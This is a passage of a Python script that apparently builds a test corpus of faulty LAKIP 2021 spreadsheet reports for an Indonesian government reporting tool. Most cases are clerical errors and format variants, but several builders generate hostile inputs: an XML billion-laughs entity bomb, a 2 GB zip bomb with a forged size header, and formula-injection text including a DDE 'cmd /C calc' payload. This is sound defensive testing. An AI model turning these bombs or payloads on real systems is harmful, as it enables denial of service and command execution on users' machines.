def _far_corner(path: Path) -> None:
    def edit(xml: str) -> str:
        xml = xml.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>', 1)
        return re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml, count=1)

    _program_xml("SEK", "bom-dimensi", path, edit)


converted("bom-dimensi-ods", "LAKIP_2021_SEK_Sekretariat (sel XFD1048576).ods",
          "workbook yang sama (nilai di sel terakhir lembar) disimpan LibreOffice sebagai .ods",
          "bom-dimensi", "ods")


@kind("bom-entitas-xml", "LAKIP_2021_PSR_Bidang_Pasar (entitas XML).xlsx",
      "billion laughs: entitas XML bersarang di sharedStrings.xml (10^9 'lol')")
def _entity_bomb(path: Path) -> None:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    sst = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [\n' + "\n".join(entities) + "\n]>\n"
           f'<sst xmlns="{_NS_MAIN}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')

    _program_xml("PSR", "bom-entitas-xml", path,
                 _replace_cell("K7", lambda style: f'<c r="K7"{style} t="s"><v>0</v></c>'),
                 edits={"[Content_Types].xml": _add_sst_type, "xl/_rels/workbook.xml.rels": _add_sst_rel},
                 add={"xl/sharedStrings.xml": sst})


@functools.lru_cache(maxsize=1)
def _deflate_bomb(total: int) -> tuple[bytes, int, int]:
    """A raw deflate stream of a sheet XML padded with ``total`` bytes of spaces, its CRC and size.

    Built from one compressed megabyte repeated (each ends with a full flush, so
    the blocks are independent): about 1 s and 2 MB for 2 GB.
    """
    chunk = b" " * (1 << 20)
    head = (f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{_NS_MAIN}"><sheetData>').encode()
    tail = b"</sheetData></worksheet>"

    def deflate(data: bytes, mode: int) -> bytes:
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        return co.compress(data) + co.flush(mode)

    block = deflate(chunk, zlib.Z_FULL_FLUSH)
    n = total // len(chunk)
    stream = deflate(head, zlib.Z_FULL_FLUSH) + block * n + deflate(tail, zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return stream, crc, len(head) + n * len(chunk) + len(tail)


def _raw_zip(path: Path, members: list[tuple[str, bytes, int, int]]) -> None:
    """A zip from (name, raw deflate data, crc, declared uncompressed size): sizes may lie."""
    out, central = io.BytesIO(), io.BytesIO()
    dostime, dosdate = 0, (2022 - 1980) << 9 | 1 << 5 | 20
    for name, comp, crc, size in members:
        offset = out.tell()
        n = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dostime, dosdate, crc, len(comp), size,
                              len(n), 0) + n + comp)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, dostime, dosdate, crc,
                                  len(comp), size, len(n), 0, 0, 0, 0, 0o644 << 16, offset) + n)
    cd = central.getvalue()
    out.write(cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd), out.tell(), 0))
    path.write_bytes(out.getvalue())


def _zip_bomb(path: Path, declared: int | None) -> None:
    src = _staged("KUM", "bom-zip" if declared is None else "bom-zip-ukuran-palsu")
    member = _sheet_member(src, "Petunjuk")
    stream, crc, size = _deflate_bomb(BOMB_BYTES)
    members = []
    for name, data in _members(src.read_bytes()):
        if name == member:
            members.append((name, stream, crc, size if declared is None else declared))
        else:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            members.append((name, co.compress(data) + co.flush(), zlib.crc32(data), len(data)))
    _raw_zip(path, members)


kind("bom-zip", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (bom zip).xlsx",
     "lembar Petunjuk yang terurai menjadi 2 GB spasi (2 MB di arsip), ukuran di header jujur")(
    lambda path: _zip_bomb(path, None))

kind("bom-zip-ukuran-palsu", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (bom zip 2).xlsx",
     "bom zip yang sama, tetapi header zip mengaku bagian itu hanya 40 KB")(
    lambda path: _zip_bomb(path, 40_000))


# --------------------------------------------------------------------------- #
# Text
# --------------------------------------------------------------------------- #

#: Texts a clerk types that a spreadsheet would take for a formula.
FORMULA_LIKE = {
    ("Program", "K7"): "=HYPERLINK(\"http://contoh.invalid/\"&A1,\"Lihat foto pasar\")",
    ("Program", "K8"): "- Fasilitasi pengelolaan 17 pasar rakyat\n- Rapat koordinasi dengan UPTD Pasar",
    ("Program", "K10"): "+ 23 pasar dibina UPTD Pasar Tradisional",
    ("Program", "K11"): "@Bidang Pasar: 23 pasar diberdayakan",
    ("IKU", "H5"): "=1+1 pasar baru memenuhi SNI (Puring dan Parwasal)",
    ("IKU", "I5"): "-cmd|' /C calc'!A0",
}


def _formula_like(wb) -> None:
    for (sheet, ref), text in FORMULA_LIKE.items():
        _text_cell(wb[sheet][ref], text)


kind("teks-seperti-rumus", "LAKIP_2021_PSR_Bidang_Pasar (teks =+-@).xlsx",
     "Penjelasan, Penyebab dan Solusi yang diawali =, +, - atau @ (harus tetap teks di hasil)")(
    _edited("PSR", "teks-seperti-rumus", _formula_like))

LONG_TEXT_CHARS = 40_000


@kind("teks-terlalu-panjang", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (penjelasan panjang).xlsx",
      f"Penjelasan {LONG_TEXT_CHARS:,} karakter (tersalin berulang), di atas batas sel Excel 32.767")
def _long_text(path: Path) -> None:
    from xml.sax.saxutils import escape

    import openpyxl

    base = openpyxl.load_workbook(INPUT / UNITS["KUM"])["Program"]["K20"].value
    text = ((base + " ") * (LONG_TEXT_CHARS // (len(base) + 1) + 1))[:LONG_TEXT_CHARS]
    # written into the XML: openpyxl would cut the text to 32.767 characters
    _program_xml("KUM", "teks-terlalu-panjang", path, _replace_cell(
        "K20", lambda style: f'<c r="K20"{style} t="inlineStr"><is><t>{escape(text)}</t></is></c>'))


# --------------------------------------------------------------------------- #
# Identity and units
# --------------------------------------------------------------------------- #

kind("bidang-ganda", "LAKIP_2021_PSR_Bidang_Pasar (salinan lama).xlsx",
     "salinan lama laporan Bidang Pasar di folder yang sama (Tanggal lebih awal)")(
    _edited("PSR", "bidang-ganda", lambda wb: None))

kind("bidang-tidak-dikenal", "LAKIP_2021_Bid_Pasar.xlsx",
     "Bidang diketik 'Bid. Pasar' (bukan kode atau nama di Renstra)")(
    _edited("PSR", "bidang-tidak-dikenal", lambda wb: _identitas(wb, Bidang="Bid. Pasar")))

kind("bidang-nama", "LAKIP_2021_Pasar_nama.xlsx",
     "Bidang diketik dengan namanya 'bidang pasar' alih-alih kode PSR")(
    _edited("PSR", "bidang-nama", lambda wb: _identitas(wb, Bidang="bidang pasar")))

kind("bidang-kosong", "LAKIP_2021_tanpa_bidang.xlsx",
     "nilai Bidang di lembar Identitas terhapus")(
    _edited("MET", "bidang-kosong", lambda wb: _identitas(wb, Bidang=None)))

kind("tahun-salah", "LAKIP_2020_IND_Bidang_Perindustrian.xlsx",
     "laporan tahun lalu: Tahun 2020")(
    _edited("IND", "tahun-salah", lambda wb: _identitas(wb, Tahun=2020)))

kind("versi-templat-lama", "LAKIP_2021_KUM_templat_lama.xlsx",
     "diisi pada templat versi lama ('lakip-xl 0.0.9 / kontrak 0')")(
    _edited("KUM", "versi-templat-lama", lambda wb: _identitas(wb, Versi_Templat="lakip-xl 0.0.9 / kontrak 0")))

kind("instansi-berbeda", "LAKIP_2021_DAG_instansi_lain.xlsx",
     "Instansi diisi nama dinas lain (templat dinas lain dipakai ulang)")(
    _edited("DAG", "instansi-berbeda", lambda wb: _identitas(wb, Instansi="Dinas Perindustrian dan Perdagangan Kota Pontianak")))


# --------------------------------------------------------------------------- #
# Rows
# --------------------------------------------------------------------------- #


def _copy_row(ws, src: int, dst: int) -> None:
    from copy import copy

    for c in range(1, ws.max_column + 1):
        a, b = ws.cell(src, c), ws.cell(dst, c)
        b.value = a.value
        b._style = copy(a._style)


def _dup_row(wb) -> None:
    ws = wb["Program"]
    _copy_row(ws, 20, ws.max_row + 1)


kind("baris-ganda", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (baris ganda).xlsx",
     "baris sub kegiatan 2.17.05.2.01.01 tersalin dua kali (baris 34)")(
    _edited("KUM", "baris-ganda", _dup_row))


def _unknown_code(wb) -> None:
    ws = wb["Program"]
    r = ws.max_row + 1
    _copy_row(ws, 11, r)
    ws.cell(r, 1).value = "3.31.02.2.01.09"
    ws.cell(r, 2).value = "Fasilitasi Sertifikasi Halal Industri Kecil"
    ws.cell(r, 3).value = "Jumlah industri kecil yang difasilitasi sertifikasi halal"


kind("kode-tidak-dikenal", "LAKIP_2021_IND_Bidang_Perindustrian (baris tambahan).xlsx",
     "baris sub kegiatan 3.31.02.2.01.09 yang tidak ada di Renstra ditambahkan sendiri")(
    _edited("IND", "kode-tidak-dikenal", _unknown_code))


def _foreign_row(wb) -> None:
    import openpyxl

    dag = openpyxl.load_workbook(INPUT / UNITS["DAG"])["Program"]
    ws = wb["Program"]
    r = ws.max_row + 1
    for c in range(1, 12):
        ws.cell(r, c).value = dag.cell(21, c).value
    assert ws.cell(r, 1).value == "3.30.02.2.06.03"


kind("baris-bidang-lain", "LAKIP_2021_PSR_Bidang_Pasar (baris Perdagangan).xlsx",
     "baris sub kegiatan 3.30.02.2.06.03 milik Bidang Perdagangan tersalin ke laporan Bidang Pasar")(
    _edited("PSR", "baris-bidang-lain", _foreign_row))


def _over_pagu(wb) -> None:
    wb["Program"]["J7"].value = 400_000_000


kind("realisasi-melebihi-pagu", "LAKIP_2021_MET_UPT_Metrologi_Legal (lebih pagu).xlsx",
     "Realisasi Anggaran 400.000.000 di atas Pagu 355.845.181")(
    _edited("MET", "realisasi-melebihi-pagu", _over_pagu))


def _typed_sum(wb) -> None:
    ws = wb["Program"]
    ws["I6"].value = 2_147_709_000  # the children sum to 2.147.709.400
    ws["J6"].value = 2_139_621_050


kind("jumlah-tidak-sesuai", "LAKIP_2021_PSR_Bidang_Pasar (jumlah diketik).xlsx",
     "pagu kegiatan 3.30.03.2.01 diketik 2.147.709.000, sedangkan jumlah sub kegiatannya 2.147.709.400")(
    _edited("PSR", "jumlah-tidak-sesuai", _typed_sum))


# --------------------------------------------------------------------------- #
# The same edits in every format the tool reads (issue 10: percent cells and formulas without
# a value were only noticed in transitional .xlsx)
# --------------------------------------------------------------------------- #

#: Transitional → Strict Open XML: the namespaces ISO/IEC 29500 Strict uses.
_STRICT = {
    "http://schemas.openxmlformats.org/spreadsheetml/2006/main": "http://purl.oclc.org/ooxml/spreadsheetml/main",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships":
        "http://purl.oclc.org/ooxml/officeDocument/relationships",
    "http://schemas.openxmlformats.org/drawingml/2006/main": "http://purl.oclc.org/ooxml/drawingml/main",
}


def _strict(unit: str, name: str, fn: Callable) -> Callable[[Path], None]:
    """A builder: the unit's file with ``fn`` applied, saved as Strict Open XML (as Excel's 'Strict' option does)."""
    def build(path: Path) -> None:
        transitional = _staged(unit, name, fn)
        members = []
        for member, data in _members(transitional.read_bytes()):
            if member.endswith((".xml", ".rels")):
                text = data.decode("utf-8")
                for old, new in _STRICT.items():
                    text = text.replace(old, new)
                data = text.encode("utf-8")
            members.append((member, data))
        _write_zip(path, members)
    return build


kind("persen-format-strict", "LAKIP_2021_PSR_Bidang_Pasar (Strict, sel persen).xlsx",
     "8,57% diketik di sel berformat persen, disimpan sebagai Strict Open XML")(
    _strict("PSR", "persen-format-strict", _percent_format))
kind("rumus-tanpa-nilai-strict", "LAKIP_2021_PSR_Bidang_Pasar (Strict, rumus).xlsx",
     "rumus tanpa nilai tersimpan di Realisasi program, disimpan sebagai Strict Open XML")(
    _strict("PSR", "rumus-tanpa-nilai-strict", _formula_no_value))
converted("persen-format-ods", "LAKIP_2021_PSR_Bidang_Pasar (sel persen).ods",
          "8,57% di sel berformat persen, disimpan sebagai .ods oleh LibreOffice", "persen-format", "ods")
converted("persen-format-xls", "LAKIP_2021_PSR_Bidang_Pasar (sel persen).xls",
          "8,57% di sel berformat persen, disimpan sebagai .xls oleh LibreOffice", "persen-format", "xls")


def _scientific(wb) -> None:
    ws = wb["Program"]
    assert ws["J7"].value == 798887400
    ws["J7"].value = "7.98887400E8"  # as a text export of Excel writes a large number


kind("angka-ilmiah", "LAKIP_2021_PSR_Bidang_Pasar (angka E8).xlsx",
     "Realisasi Anggaran 798.887.400 tertulis sebagai teks notasi ilmiah '7.98887400E8'")(
    _edited("PSR", "angka-ilmiah", _scientific))


def _invisible_bidang(wb) -> None:
    _identitas(wb, Bidang="PSR\u200b")  # copied from a chat or a PDF: a zero-width space behind the code


kind("bidang-spasi-lebar-nol", "LAKIP_2021_PSR_Bidang_Pasar (spasi tak terlihat).xlsx",
     "Bidang 'PSR' diikuti spasi lebar-nol (U+200B) yang tidak terlihat")(
    _edited("PSR", "bidang-spasi-lebar-nol", _invisible_bidang))


def _invisible_code(wb) -> None:
    ws = wb["Program"]
    ws["A7"].value = "\u200e" + ws["A7"].value + "\u200b"  # a left-to-right mark before, a zero-width space after


kind("kode-karakter-tak-terlihat", "LAKIP_2021_PSR_Bidang_Pasar (kode tak terlihat).xlsx",
     "kode sub kegiatan 3.30.03.2.01.01 dengan penanda arah teks dan spasi lebar-nol")(
    _edited("PSR", "kode-karakter-tak-terlihat", _invisible_code))


def _stale_sheet(wb) -> None:
    filled = wb["Program"]
    filled.title = "Program "  # the filled sheet, renamed by a slip of the keyboard
    stale = wb.copy_worksheet(filled)
    stale.title = "Program"  # an empty copy of the template's sheet, left in front
    for row in stale.iter_rows(min_row=5):
        for cell in row[6:]:
            cell.value = None


kind("lembar-ganda", "LAKIP_2021_PSR_Bidang_Pasar (dua lembar Program).xlsx",
     "lembar 'Program' lama yang kosong di samping lembar 'Program ' (spasi di belakang) yang terisi")(
    _edited("PSR", "lembar-ganda", _stale_sheet))


def _twin_column(wb) -> None:
    ws = wb["Program"]
    ws.protection.sheet = False
    ws["L4"].value = "Realisasi"  # a second column headed Realisasi, right of the table, empty


kind("kolom-ganda", "LAKIP_2021_PSR_Bidang_Pasar (dua kolom Realisasi).xlsx",
     "judul kolom 'Realisasi' ada dua kali (kolom G dan L)")(
    _edited("PSR", "kolom-ganda", _twin_column))


# --------------------------------------------------------------------------- #
# Money that cannot be placed, reports left unfilled, rows written another way (issues 9, 10)
# --------------------------------------------------------------------------- #


def _codeless_row(wb) -> None:
    ws = wb["Program"]
    assert ws["A12"].value is None
    ws["B12"].value = "Sisipan: pengadaan tambahan"  # inserted by the clerk, no Kode
    ws["I12"].value = 500_000_000
    ws["J12"].value = 450_000_000


kind("baris-tanpa-kode", "LAKIP_2021_PSR_Bidang_Pasar (baris sisipan).xlsx",
     "baris sisipan tanpa Kode berisi Pagu Rp 500.000.000 dan Realisasi Anggaran Rp 450.000.000")(
    _edited("PSR", "baris-tanpa-kode", _codeless_row))


def _typed_total_only(wb) -> None:
    ws = wb["Program"]
    for ref in ("I7", "J7", "I8", "J8"):
        ws[ref].value = None  # the two sub kegiatan left empty …
    ws["I6"].value = 2_147_709_400  # … the kegiatan's total typed over its SUM


kind("jumlah-tanpa-rincian", "LAKIP_2021_PSR_Bidang_Pasar (jumlah tanpa rincian).xlsx",
     "pagu kegiatan 3.30.03.2.01 diketik, sub kegiatannya dikosongkan")(
    _edited("PSR", "jumlah-tanpa-rincian", _typed_total_only))


def _four_digit_codes(wb) -> None:
    ws = wb["Program"]
    for ref in ("A7", "A8", "A10", "A11"):
        head, _, last = ws[ref].value.rpartition(".")
        ws[ref].value = f"{head}.{int(last):04d}"  # 3.30.03.2.01.01 → 3.30.03.2.01.0001


kind("kode-empat-angka", "LAKIP_2021_PSR_Bidang_Pasar (kode 4 angka).xlsx",
     "kode sub kegiatan ditulis dengan 4 angka (Kepmendagri 900.1.15.5-3406/2024), Renstra dengan 2")(
    _edited("PSR", "kode-empat-angka", _four_digit_codes))


def _months_for_percent(wb) -> None:
    ws = wb["Program"]
    assert ws["A19"].value == "3.31.04.2.01"
    ws["G19"].value = "12 bulan"  # "26 industri/12 bulan" (III.57) for a percentage indicator


kind("satuan-tidak-cocok", "LAKIP_2021_IND_Bidang_Perindustrian (12 bulan).xlsx",
     "Realisasi '12 bulan' untuk indikator dalam % (SEED_NOTES C16)")(
    _edited("IND", "satuan-tidak-cocok", _months_for_percent))


def _copied_penjelasan(wb) -> None:
    ws = wb["Program"]
    assert ws["A14"].value == "2.17.04"
    ws["K14"].value = ('Realisasi indikator Program (5,88%) sama dengan target (5,88%). Analisa Capaian Indikator '
                       'Kinerja sebesar (100%). Indikator Kinerja masuk pada kategori " Sangat Berhasil ".')


kind("penjelasan-bertentangan", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (penjelasan salin).xlsx",
     "penjelasan tersalin dari baris lain: '(5,88%) sama dengan target (5,88%) … Sangat Berhasil' (C10)")(
    _edited("KUM", "penjelasan-bertentangan", _copied_penjelasan))


@kind("templat-kosong", "LAKIP_2021_PSR_Bidang_Pasar (belum diisi).xlsx",
      "templat Bidang Pasar yang dikirim kembali tanpa diisi")
def _blank_template(path: Path) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(ROOT / "workbook_templates" / UNITS["PSR"])
    _save(wb, path, "templat-kosong")


def _half_filled(wb) -> None:
    ws = wb["Program"]
    for ref in ("G7", "G8"):
        ws[ref].value = None  # two sub kegiatan realisasi not yet filled


kind("setengah-diisi", "LAKIP_2021_PSR_Bidang_Pasar (setengah diisi).xlsx",
     "dua realisasi sub kegiatan belum diisi")(_edited("PSR", "setengah-diisi", _half_filled))


def _pagu_formula(wb) -> None:
    wb["Program"]["I7"].value = "=774292350+26245050"  # 800.537.400, written by another program, no value


kind("pagu-rumus-tanpa-nilai", "LAKIP_2021_PSR_Bidang_Pasar (pagu rumus).xlsx",
     "Pagu sub kegiatan berisi rumus tanpa nilai tersimpan")(_edited("PSR", "pagu-rumus-tanpa-nilai", _pagu_formula))


def _invisible_unit(wb) -> None:
    ws = wb["IKU"]
    ws["D5"].value = "%\u200b"
    ws["A5"].value = "IKU01\u200f"  # a right-to-left mark after the code


kind("satuan-kode-tak-terlihat", "LAKIP_2021_PSR_Bidang_Pasar (satuan tak terlihat).xlsx",
     "Satuan '%' dan Kode Indikator IKU01 dengan karakter tak terlihat")(
    _edited("PSR", "satuan-kode-tak-terlihat", _invisible_unit))


def _scientific_comma(wb) -> None:
    ws = wb["Program"]
    assert ws["G5"].value == 11.76
    ws["G5"].value = "1,176E1"  # Excel with the Indonesian locale, a number shown in scientific notation


kind("angka-ilmiah-koma", "LAKIP_2021_PSR_Bidang_Pasar (angka 1,176E1).xlsx",
     "Realisasi 11,76 tertulis '1,176E1' (notasi ilmiah, koma desimal)")(
    _edited("PSR", "angka-ilmiah-koma", _scientific_comma))


def _twin_identitas(wb) -> None:
    stale = wb.copy_worksheet(wb["Identitas"])
    stale.title = " Identitas"  # a second Identitas (a space in front), left from an older copy
    for row in stale.iter_rows(min_row=5):
        row[1].value = None


kind("identitas-ganda", "LAKIP_2021_PSR_Bidang_Pasar (dua Identitas).xlsx",
     "lembar Identitas kedua yang kosong (' Identitas', spasi di depan)")(_edited("PSR", "identitas-ganda", _twin_identitas))


def _percent_word(wb) -> None:
    ws = wb["IKU"]
    assert ws["G5"].value == 8.57
    ws["G5"].value = "8,57 persen"  # the unit written out: the same unit as the indicator's '%'


kind("satuan-kata-persen", "LAKIP_2021_PSR_Bidang_Pasar (8,57 persen).xlsx",
     "Realisasi IKU ditulis '8,57 persen' (satuan sama dengan '%', bukan temuan satuan)")(
    _edited("PSR", "satuan-kata-persen", _percent_word))


def _copy_of(unit: str, name: str) -> Callable[[Path], None]:
    """A builder: the unit's sample file, unchanged but for an older Tanggal (for a kind that is its name)."""
    return _edited(unit, name, lambda wb: None)


kind("nama-berkas-windows", os.fsdecode(b"LAKIP_2021_PSR_Bidang_Pasar (salinan \xe9).xlsx"),
     "laporan yang namanya berisi bita non-UTF-8 (dari zip buatan Windows)")(_copy_of("PSR", "nama-berkas-windows"))
kind("nama-berkas-bidi", "LAKIP_2021_PSR_Bidang_Pasar \u202excod.xlsx",
     "laporan yang namanya berisi penanda arah teks kanan-ke-kiri (U+202E)")(_copy_of("PSR", "nama-berkas-bidi"))


@kind("berkas-xlsb", "LAKIP_2021_PSR_Bidang_Pasar.xlsb", "laporan yang disimpan sebagai workbook biner Excel")
def _xlsb(path: Path) -> None:
    _write_zip(path, [("[Content_Types].xml", b"<Types/>"), ("xl/workbook.bin", b"\x83\x01\x00")])


@kind("berkas-sementara", ".~lakip-8f3k2j1q.xlsx", "berkas sementara lakip-xl dari proses yang dimatikan")
def _stale_temp(path: Path) -> None:
    path.write_bytes(b"")


# --------------------------------------------------------------------------- #
# Other file formats and other files
# --------------------------------------------------------------------------- #

converted("format-xls", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro.xls",
          "laporan Bidang Koperasi disimpan sebagai Excel 97-2003 (.xls) oleh LibreOffice", "KUM", "xls")
converted("format-ods", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro.ods",
          "laporan Bidang Koperasi disimpan sebagai OpenDocument (.ods) oleh LibreOffice", "KUM", "ods")
converted("xlsx-libreoffice", "LAKIP_2021_DAG_Bidang_Perdagangan (LibreOffice).xlsx",
          "laporan Bidang Perdagangan dibuka dan disimpan ulang di LibreOffice (rumus SUM kini punya nilai)",
          "DAG", "xlsx")


@kind("kunci-excel", "~$LAKIP_2021_PSR_Bidang_Pasar.xlsx",
      "berkas kunci Excel (165 bita, nama pemakai) yang tertinggal saat laporan dibuka")
def _excel_lock(path: Path) -> None:
    user = "Staf Bidang Pasar"
    data = bytes([len(user)]) + user.encode("ascii").ljust(53, b" ") + struct.pack("<H", len(user))
    data += user.encode("utf-16-le").ljust(110, b"\x00")
    path.write_bytes(data[:165])


@kind("kunci-libreoffice", ".~lock.LAKIP_2021_DAG_Bidang_Perdagangan.xlsx#",
      "berkas kunci LibreOffice yang tertinggal")
def _lo_lock(path: Path) -> None:
    path.write_text("Staf Bidang Perdagangan,staf,PC-DAG-01,20.01.2022 09:15,file:///C:/Users/staf/AppData/"
                    "Roaming/LibreOffice/4;\n", encoding="utf-8")


@kind("lampiran-docx", "Catatan_Bidang_Pasar.docx", "catatan Word yang ikut tersimpan di folder masukan")
def _docx(path: Path) -> None:
    body = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.'
            'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Realisasi Bidang Pasar tahun 2021'
            " sudah dikirim lewat surel.</w:t></w:r></w:p></w:body></w:document>")
    types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.'
             'org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
             'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
             'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'wordprocessingml.document.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>")
    _write_zip(path, [("[Content_Types].xml", types.encode()), ("_rels/.rels", rels.encode()),
                      ("word/document.xml", body.encode())])


@kind("lampiran-pdf", "Surat_Pengantar_LAKIP_2021.pdf", "surat pengantar PDF di folder masukan")
def _pdf(path: Path) -> None:
    text = b"BT /F1 12 Tf 72 720 Td (Surat Pengantar Laporan Kinerja 2021) Tj ET"
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + o + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    path.write_bytes(out.getvalue())


@kind("catatan-txt", "catatan.txt", "catatan teks di folder masukan")
def _txt(path: Path) -> None:
    path.write_text("Bidang Pasar: revisi realisasi anggaran menyusul.\n", encoding="utf-8")


# --------------------------------------------------------------------------- #
# Main
# --------------------------------------------------------------------------- #


@dataclass
class Corpus:
    folder: Path
    #: kind name → file
    files: dict[str, Path] = field(default_factory=dict)
    #: kind name → why it was not made
    skipped: dict[str, str] = field(default_factory=dict)

    def path(self, name: str) -> Path:
        return self.files[name]


def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _have(module: str) -> bool:
    import importlib.util

    return importlib.util.find_spec(module) is not None


def main(out_dir: Path | str | None = None, only: list[str] | None = None) -> Corpus:
    """Build the corpus in ``out_dir`` (emptied of earlier corpus files first).

    The LibreOffice conversions are started first (one soffice per target
    format, each with its own profile, in parallel) and collected last, so
    they run while the other kinds are built.
    """
    out = Path(out_dir) if out_dir is not None else DEFAULT_OUT
    out.mkdir(parents=True, exist_ok=True)
    for old in out.iterdir():
        if old.is_file():
            old.unlink()
    _register_days()
    corpus = Corpus(out)
    wanted = [k for k in KINDS if only is None or k.name in only]
    conversions = [k for k in wanted if k.convert is not None]
    sources = {k.convert[0] for k in conversions}  # type: ignore[index]
    first = [k for k in wanted if k.name in sources]
    with warnings.catch_warnings(), tempfile.TemporaryDirectory(prefix="lakip-corpus-") as scratch:
        warnings.simplefilter("ignore")
        _WORK.append(Path(scratch))
        try:
            for k in first:
                _build(k, out, corpus)
            running = _start_conversions(conversions, Path(scratch), corpus)
            for k in wanted:
                if k.convert is None and k not in first:
                    _build(k, out, corpus)
            _finish_conversions(running, out, corpus)
        finally:
            _WORK.pop()
    for p in corpus.files.values():
        os.utime(p, (FILE_TIME, FILE_TIME))
    return corpus


def _build(k: Kind, out: Path, corpus: Corpus) -> None:
    if k.needs == "msoffcrypto" and not _have("msoffcrypto"):
        corpus.skipped[k.name] = "msoffcrypto-tool tidak terpasang"
        return
    target = out / k.file
    k.build(target)
    corpus.files[k.name] = target


@dataclass
class _Conversion:
    fmt: str
    dest: Path
    items: list[tuple[Kind, Path]]
    proc: subprocess.Popen | None = None


def _start_conversions(kinds: list[Kind], work: Path, corpus: Corpus) -> list[_Conversion]:
    """Stage the sources and start one soffice per target format."""
    if not kinds:
        return []
    exe = soffice()
    if exe is None:
        for k in kinds:
            corpus.skipped[k.name] = "LibreOffice (soffice) tidak terpasang"
        return []
    by_format: dict[str, _Conversion] = {}
    for i, k in enumerate(kinds):
        source, fmt = k.convert  # type: ignore[misc]
        src_dir = work / f"lo-src{i}"
        src_dir.mkdir()
        src = src_dir / f"{Path(k.file).stem}.xlsx"
        if source in UNITS:
            shutil.copyfile(_staged(source, k.name), src)
        elif source in corpus.files:
            shutil.copyfile(corpus.files[source], src)
        else:
            corpus.skipped[k.name] = f"sumbernya ({source}) tidak dibuat"
            continue
        conv = by_format.setdefault(fmt, _Conversion(fmt, work / f"lo-out-{fmt}", []))
        conv.items.append((k, src))
    for conv in by_format.values():
        conv.dest.mkdir()
        profile = (work / f"lo-profile-{conv.fmt}").as_uri()
        cmd = [exe, f"-env:UserInstallation={profile}", "--headless", "--norestore", "--convert-to", conv.fmt,
               "--outdir", str(conv.dest)] + [str(src) for _, src in conv.items]
        conv.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return list(by_format.values())


def _finish_conversions(running: list[_Conversion], out: Path, corpus: Corpus) -> None:
    for conv in running:
        try:
            conv.proc.wait(timeout=180)  # type: ignore[union-attr]
        except subprocess.TimeoutExpired:
            conv.proc.kill()  # type: ignore[union-attr]
            conv.proc.wait()  # type: ignore[union-attr]
        for k, src in conv.items:
            made = conv.dest / f"{src.stem}.{conv.fmt}"
            if not made.exists():
                corpus.skipped[k.name] = f"LibreOffice gagal mengonversi ke .{conv.fmt}"
                continue
            target = out / k.file
            shutil.copyfile(made, target)
            corpus.files[k.name] = target


if __name__ == "__main__":
    result = main(sys.argv[1] if len(sys.argv) > 1 else None)
    for name, p in result.files.items():
        print(f"{name:32} {p.name}")
    for name, why in result.skipped.items():
        print(f"{name:32} DILEWATI: {why}")
    print(f"{len(result.files)} berkas di {result.folder}")
